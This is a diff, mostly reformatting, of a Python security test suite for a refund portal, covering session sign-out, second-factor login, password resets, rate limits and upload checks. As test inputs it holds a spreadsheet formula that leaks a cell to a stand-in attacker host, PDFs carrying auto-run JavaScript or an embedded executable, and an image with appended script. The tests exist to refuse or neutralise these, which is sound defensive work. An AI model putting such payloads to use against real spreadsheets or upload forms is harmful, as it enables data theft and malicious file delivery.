@@ -1,4 +1,5 @@
 """The probes of issue 17, repeated: each asserts what an attacker or the owner would notice."""
+
 from __future__ import annotations
 
 import io
@@ -67,13 +68,18 @@ def test_every_copy_of_every_session_ends(app, orders, how):
     if how == "everywhere":
         staff_post(agent, "/staff/security/sign-out-everywhere", "/staff/security")
     elif how == "password":
-        answer = staff_post(agent, "/staff/security/password", "/staff/security", current=PASSWORD,
-                            password="violet kettle harbour 1987")
+        answer = staff_post(
+            agent,
+            "/staff/security/password",
+            "/staff/security",
+            current=PASSWORD,
+            password="violet kettle harbour 1987",
+        )
         assert answer.status_code == 303
     else:
         admin = app.test_client()
         sign_in(admin, "admin@example.com")
-        agent_id = re.search(r'/staff/users/(\d+)/role', admin.get("/staff/users").get_data(as_text=True)).group(1)
+        agent_id = re.search(r"/staff/users/(\d+)/role", admin.get("/staff/users").get_data(as_text=True)).group(1)
         if how == "role":
             staff_post(admin, f"/staff/users/{agent_id}/role", "/staff/users", role="marketing")
         else:
@@ -119,8 +125,15 @@ def test_admins_must_add_a_second_factor_and_then_sign_in_with_it(make_app, db_s
         staff_post(admin, "/staff/security/totp", "/staff/security")
         secret = db_session.scalar(select(TotpFactor.secret))
         totp = pyotp.TOTP(secret)
-        assert staff_post(admin, "/staff/security/totp/confirm", "/staff/security",
-                          code="000000" if totp.now() != "000000" else "111111").status_code == 422
+        assert (
+            staff_post(
+                admin,
+                "/staff/security/totp/confirm",
+                "/staff/security",
+                code="000000" if totp.now() != "000000" else "111111",
+            ).status_code
+            == 422
+        )
         assert staff_post(admin, "/staff/security/totp/confirm", "/staff/security", code=totp.now()).status_code == 303
         page = admin.get("/staff/security").get_data(as_text=True)
         codes = re.findall(r"<code>([0-9a-f]{5}-[0-9a-f]{5})</code>", page)
@@ -135,18 +148,26 @@ def test_admins_must_add_a_second_factor_and_then_sign_in_with_it(make_app, db_s
         refused = staff_post(fresh, "/staff/login/second-factor", "/staff/login/second-factor", code=used)
         assert refused.status_code == 422 and "used already" in refused.get_data(as_text=True)
         clock.shift(30)
-        assert staff_post(fresh, "/staff/login/second-factor", "/staff/login/second-factor",
-                          code=totp.now()).status_code == 302
+        assert (
+            staff_post(fresh, "/staff/login/second-factor", "/staff/login/second-factor", code=totp.now()).status_code
+            == 302
+        )
         assert fresh.get("/staff/users").status_code == 200
 
         recovered = app.test_client()
         sign_in(recovered, "admin@example.com")
-        assert staff_post(recovered, "/staff/login/second-factor", "/staff/login/second-factor",
-                          code=codes[0].upper()).status_code == 302
+        assert (
+            staff_post(
+                recovered, "/staff/login/second-factor", "/staff/login/second-factor", code=codes[0].upper()
+            ).status_code
+            == 302
+        )
         again = app.test_client()
         sign_in(again, "admin@example.com")
-        assert staff_post(again, "/staff/login/second-factor", "/staff/login/second-factor",
-                          code=codes[0]).status_code == 422
+        assert (
+            staff_post(again, "/staff/login/second-factor", "/staff/login/second-factor", code=codes[0]).status_code
+            == 422
+        )
     kinds = [e.kind for e in db_session.scalars(select(SecurityEvent).order_by(SecurityEvent.id))]
     assert "mfa_added" in kinds and "recovery_code_used" in kinds and "mfa_failed" in kinds
 
@@ -169,19 +190,23 @@ def test_a_password_reset_link_works_once_for_30_minutes_and_refuses_breached_pa
     browser = app.test_client()
     with time_machine.travel("2026-11-22T12:00:00Z", tick=False) as clock:
         for address in ("agent@example.com", "nobody@example.com"):
-            answer = browser.post("/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"),
-                                                         "email": address})
+            answer = browser.post(
+                "/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"), "email": address}
+            )
             assert answer.status_code == 303
         [message] = outbox(orders, "staff_password_reset")
         link = message.variables["link"].removeprefix("http://portal.test")
         token = link.rsplit("/", 1)[1]
         assert orders.scalar(select(PasswordReset.token_hash)) != token  # stored hashed
         assert browser.get(link).headers["Location"] == "/staff/reset"
-        weak = browser.post("/staff/reset", data={"csrf_token": csrf_token(browser, "/staff/reset"),
-                                                  "password": "Password123!"})
+        weak = browser.post(
+            "/staff/reset", data={"csrf_token": csrf_token(browser, "/staff/reset"), "password": "Password123!"}
+        )
         assert weak.status_code == 422 and "breached" in weak.get_data(as_text=True)
-        done = browser.post("/staff/reset", data={"csrf_token": csrf_token(browser, "/staff/reset"),
-                                                  "password": "violet kettle harbour 1987"})
+        done = browser.post(
+            "/staff/reset",
+            data={"csrf_token": csrf_token(browser, "/staff/reset"), "password": "violet kettle harbour 1987"},
+        )
         assert done.status_code == 303
         assert other.get("/staff/queue").status_code == 302  # the old sessions ended
         assert sign_in(app.test_client(), "agent@example.com", "violet kettle harbour 1987").status_code == 302
@@ -189,8 +214,9 @@ def test_a_password_reset_link_works_once_for_30_minutes_and_refuses_breached_pa
         replay.get(link)
         assert "expired or was used" in replay.get("/staff/reset").get_data(as_text=True)
 
-        browser.post("/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"),
-                                            "email": "agent@example.com"})
+        browser.post(
+            "/staff/forgot", data={"csrf_token": csrf_token(browser, "/staff/forgot"), "email": "agent@example.com"}
+        )
         late = outbox(orders, "staff_password_reset")[-1].variables["link"].removeprefix("http://portal.test")
         clock.shift(31 * 60)
         slow = app.test_client()
@@ -207,15 +233,22 @@ def test_a_wrong_password_flood_never_locks_the_owner_out(app, orders):
     answers = []
     for _ in range(20):
         token = csrf_token(attacker, "/staff/login")
-        answers.append(attacker.post("/staff/login", data={"csrf_token": token, "email": "agent@example.com",
-                                                           "password": "wrong"},
-                                     environ_base={"REMOTE_ADDR": "203.0.113.9"}).status_code)
+        answers.append(
+            attacker.post(
+                "/staff/login",
+                data={"csrf_token": token, "email": "agent@example.com", "password": "wrong"},
+                environ_base={"REMOTE_ADDR": "203.0.113.9"},
+            ).status_code
+        )
     assert 429 in answers  # the attacker's client is slowed to a stop
     owner = app.test_client()
     token = csrf_token(owner, "/staff/login")
     started = time.monotonic()
-    answer = owner.post("/staff/login", data={"csrf_token": token, "email": "agent@example.com",
-                                              "password": PASSWORD}, environ_base={"REMOTE_ADDR": "198.51.100.7"})
+    answer = owner.post(
+        "/staff/login",
+        data={"csrf_token": token, "email": "agent@example.com", "password": PASSWORD},
+        environ_base={"REMOTE_ADDR": "198.51.100.7"},
+    )
     assert answer.status_code == 302 and time.monotonic() - started < 3
 
 
@@ -237,9 +270,12 @@ def test_filing_posts_are_rate_limited_per_client(make_app, db_session):
     customer = app.test_client()
     lookup(customer, "ORD-10001", "alice.m@example.com")
     form = refund_form(customer, "ORD-10001")
-    answers = [post_multipart(customer, "/orders/ORD-10001/refund", {**form, "amount_choice": "partial",
-                                                                     "partial_amount": "abc"}, {}).status_code
-               for _ in range(4)]
+    answers = [
+        post_multipart(
+            customer, "/orders/ORD-10001/refund", {**form, "amount_choice": "partial", "partial_amount": "abc"}, {}
+        ).status_code
+        for _ in range(4)
+    ]
     assert answers == [422, 422, 422, 429]
 
 
@@ -248,8 +284,13 @@ def test_filing_posts_are_rate_limited_per_client(make_app, db_session):
 
 def _refused_form(client, files, **fields):
     """A form refused for a bad amount, so the documents are only staged."""
-    form = {**refund_form(client, "ORD-10001"), "amount_choice": "partial", "partial_amount": "abc",
-            "details": "Kept as typed", **fields}
+    form = {
+        **refund_form(client, "ORD-10001"),
+        "amount_choice": "partial",
+        "partial_amount": "abc",
+        "details": "Kept as typed",
+        **fields,
+    }
     return post_multipart(client, "/orders/ORD-10001/refund", form, {"documents": files})
 
 
@@ -304,8 +345,9 @@ def _noise_png(side: int) -> bytes:
 def _open_action_js(writer) -> None:
     from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")})
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")}
+    )
 
 
 def _pdf_with(action) -> bytes:
@@ -317,14 +359,17 @@ def _pdf_with(action) -> bytes:
     return out.getvalue()
 
 
-@pytest.mark.parametrize("name,content", [
-    ("script.pdf", lambda: _pdf_with(_open_action_js)),
-    ("attached.pdf", lambda: _pdf_with(lambda w: w.add_attachment("evil.exe", b"MZ\x90"))),
-    ("photo.jpg", lambda: _jpeg() + b"<html><script>alert(1)</script></html>PK\x03\x04zip"),
-    ("shot.png", lambda: png_bytes() + b"PK\x03\x04appended"),
-    # No cross-reference table: judged by its bytes, the script is still found.
-    ("plain.pdf", lambda: PLAIN_PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>")),
-])
+@pytest.mark.parametrize(
+    "name,content",
+    [
+        ("script.pdf", lambda: _pdf_with(_open_action_js)),
+        ("attached.pdf", lambda: _pdf_with(lambda w: w.add_attachment("evil.exe", b"MZ\x90"))),
+        ("photo.jpg", lambda: _jpeg() + b"<html><script>alert(1)</script></html>PK\x03\x04zip"),
+        ("shot.png", lambda: png_bytes() + b"PK\x03\x04appended"),
+        # No cross-reference table: judged by its bytes, the script is still found.
+        ("plain.pdf", lambda: PLAIN_PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>")),
+    ],
+)
 def test_active_content_is_refused_with_what_was_typed_kept(client, orders, name, content):
     lookup(client, "ORD-10001", "alice.m@example.com")
     answer = _refused_form(client, [(name, content())])
@@ -342,15 +387,19 @@ def _jpeg() -> bytes:
 
 
 # A hand-made PDF without a cross-reference table, as mail attachments often are; viewers show it.
-PLAIN_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
-             b"endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
+PLAIN_PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
+    b"endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+)
 
 
 def test_a_pdf_without_a_cross_reference_table_is_judged_by_its_bytes(client, orders):
     lookup(client, "ORD-10001", "alice.m@example.com")
     # One whose names could hide in an encoded stream cannot be judged that way: refused as damaged.
-    hidden = PLAIN_PDF.replace(b"/MediaBox[0 0 200 200]", b"/MediaBox[0 0 200 200]/Contents 4 0 R") + \
-        b"4 0 obj<</Filter/FlateDecode/Length 3>>stream\nxyz\nendstream endobj\n%%EOF\n"
+    hidden = (
+        PLAIN_PDF.replace(b"/MediaBox[0 0 200 200]", b"/MediaBox[0 0 200 200]/Contents 4 0 R")
+        + b"4 0 obj<</Filter/FlateDecode/Length 3>>stream\nxyz\nendstream endobj\n%%EOF\n"
+    )
     refused = _refused_form(client, [("hidden.pdf", hidden)])
     assert refused.status_code == 422 and "may be damaged" in refused.get_data(as_text=True)
     # The plain one lands, as a viewer would show it.
@@ -386,8 +435,9 @@ def test_an_over_large_body_is_answered_beside_the_form(make_app, db_session):
 # -- CSV ------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1", "-2+3", "@SUM(A1)",
-                                  "\t=1", "\r=1"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+)
 def test_formula_cells_are_neutralised(cell):
     assert neutralise(cell) == "'" + cell
 
@@ -418,8 +468,11 @@ def test_twenty_concurrent_posts_of_one_form_make_one_request(make_app, db_sessi
     answers: list = []
 
     def post():
-        answers.append(post_multipart(_copy(app, cookie), "/orders/ORD-10001/refund", form,
-                                      {"documents": [("a.png", png_bytes())]}))
+        answers.append(
+            post_multipart(
+                _copy(app, cookie), "/orders/ORD-10001/refund", form, {"documents": [("a.png", png_bytes())]}
+            )
+        )
 
     threads = [threading.Thread(target=post) for _ in range(20)]
     for thread in threads:
